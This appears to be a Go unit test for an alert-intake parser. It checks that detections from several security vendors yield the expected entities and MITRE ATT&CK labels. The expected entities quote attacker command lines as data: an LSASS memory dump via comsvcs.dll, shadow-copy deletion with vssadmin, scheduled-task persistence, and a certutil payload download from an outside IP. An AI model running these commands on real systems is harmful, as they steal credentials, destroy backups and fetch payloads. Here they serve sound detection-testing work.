package intake

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestSecuritySenderEntities holds the security senders of issue 32 to the
// parts the golden files do not show: the entity fields exceptions match on
// (DESIGN §6b), the ATT&CK labels passed through as the vendor wrote them,
// and the security flag.
func TestSecuritySenderEntities(t *testing.T) {
	tests := []struct {
		fixture  string
		entities map[string]string
		labels   map[string]string
	}{
		{"securityhub/eventbridge-guardduty-ssh-brute-force.json", nil,
			map[string]string{"mitre_tactic": "Initial Access", "product": "GuardDuty"}},
		{"sentinel/incident-trigger-powershell.json",
			map[string]string{"user": "alice@contoso.com", "command": "powershell.exe -NoProfile -EncodedCommand SQBFAFgA"},
			map[string]string{"tactics": "Execution,DefenseEvasion", "techniques": "T1059,T1027"}},
		{"sentinel/alert-trigger-scheduled-task.json",
			map[string]string{"user": "bob@contoso.com", "process": "schtasks.exe", "command": `schtasks.exe /create /tn updater /tr C:\Users\Public\u.exe /sc onlogon`},
			map[string]string{"tactics": "Persistence", "techniques": "T1053"}},
		{"defender/alert-lsass-access.json",
			map[string]string{"user": `CONTOSO\alice`, "process": "rundll32.exe", "parent_process": "cmd.exe", "command": `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`},
			map[string]string{"tactic": "CredentialAccess", "mitre_techniques": "T1003,T1003.001"}},
		{"crowdstrike/epp-detection-shadow-copy-deletion.json",
			map[string]string{"user": "svc-backup", "process": "vssadmin.exe", "command": "vssadmin.exe delete shadows /all /quiet", "parent_process": "powershell.exe"},
			map[string]string{"tactic": "Impact", "technique_id": "T1490"}},
		{"sentinelone/threats-page-mimikatz.json",
			map[string]string{"user": `CONTOSO\alice`, "process": "explorer.exe", "file": "mimikatz.exe"},
			map[string]string{"mitre_tactics": "Credential Access", "mitre_techniques": "T1003"}},
		{"datadog-signal/signal-console-login-without-mfa.json",
			map[string]string{"user": "deploy-bot"},
			map[string]string{"tactic": "TA0001-initial-access", "technique": "T1078-valid-accounts"}},
		{"datadog-signal/search-java-spawned-shell-archived.json",
			map[string]string{"process": "sh", "command": "-c id"}, nil},
		{"secops/detection-certutil-download.json",
			map[string]string{"user": "alice", "process": "cmd.exe", "command": `certutil.exe -urlcache -split -f http://198.51.100.23/a.bin C:\Users\Public\a.bin`},
			map[string]string{"mitre_attack_tactic": "Command and Control", "mitre_attack_technique_id": "T1105"}},
	}
	for _, tt := range tests {
		t.Run(tt.fixture, func(t *testing.T) {
			body, err := os.ReadFile(filepath.Join(senderFixtures, tt.fixture))
			if err != nil {
				t.Fatal(err)
			}
			recs := readAll(t, string(body), Options{})
			if len(recs) != 1 || recs[0].Err != nil {
				t.Fatalf("%d records: %+v", len(recs), recs)
			}
			a := recs[0].Alert
			if !a.Security {
				t.Error("not a security detection")
			}
			if diff := cmp.Diff(tt.entities, a.Entities); diff != "" && (len(tt.entities) != 0 || len(a.Entities) != 0) {
				t.Errorf("entities (-want +got):\n%s", diff)
			}
			for k, v := range tt.labels {
				if a.Labels[k] != v {
					t.Errorf("label %s = %q, want %q", k, a.Labels[k], v)
				}
			}
		})
	}
}
